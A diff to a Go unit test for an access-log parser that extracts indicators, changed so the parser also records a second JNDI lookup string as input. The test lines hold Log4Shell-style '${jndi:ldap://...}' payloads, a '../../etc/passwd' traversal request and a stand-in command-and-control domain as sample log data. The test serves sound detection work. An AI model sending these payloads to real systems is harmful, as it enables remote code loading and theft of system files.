@@ -17,7 +17,7 @@ func TestALineOfAnAccessLogIsReadByItsFields(t *testing.T) {
 		`2001:db8::5` + date + `"GET / HTTP/1.1" 200 5 "-" "-"`:                                                                     "ipv6:2001:db8::5",
 		`192.0.2.7` + date + `"GET / HTTP/1.1" 200 5 "https://c2.evil.example/a" "Mozilla/5.0 (X11; Linux x86_64)"`:                 "domain:c2.evil.example ipv4:192.0.2.7 url:https://c2.evil.example/a",
 		`192.0.2.7` + date + `"GET / HTTP/1.1" 200 5 "-" "Nightbell/1.0"`:                                                           "ipv4:192.0.2.7 malware:nightbell",
-		`192.0.2.7` + date + `"GET /?q=${jndi:ldap://192.0.2.9/x} HTTP/1.1" 404 5 "-" "${jndi:ldap://192.0.2.8:1389/x}"`:            "argument:q input:${jndi:ldap://192.0.2.9/x} ipv4:192.0.2.7 ipv4:192.0.2.8 ipv4:192.0.2.9 port:1389/tcp url:ldap://192.0.2.8:1389/x url:ldap://192.0.2.9/x",
+		`192.0.2.7` + date + `"GET /?q=${jndi:ldap://192.0.2.9/x} HTTP/1.1" 404 5 "-" "${jndi:ldap://192.0.2.8:1389/x}"`:            "argument:q input:${jndi:ldap://192.0.2.8:1389/x} input:${jndi:ldap://192.0.2.9/x} ipv4:192.0.2.7 ipv4:192.0.2.8 ipv4:192.0.2.9 port:1389/tcp url:ldap://192.0.2.8:1389/x url:ldap://192.0.2.9/x",
 		`192.0.2.7` + date + `"GET /?f=../../etc/passwd HTTP/1.1" 404 5`:                                                            "argument:f input:../../etc/passwd ipv4:192.0.2.7",
 		`192.0.2.7` + date + `"GET http://c2.evil.example/ HTTP/1.1" 404 5 "-" "-"`:                                                 "domain:c2.evil.example ipv4:192.0.2.7 url:http://c2.evil.example/",
 		`192.0.2.7` + date + `"\x16\x03\x01 c2.evil.example" 400 5 "-" "-"`:                                                         "domain:c2.evil.example ipv4:192.0.2.7",
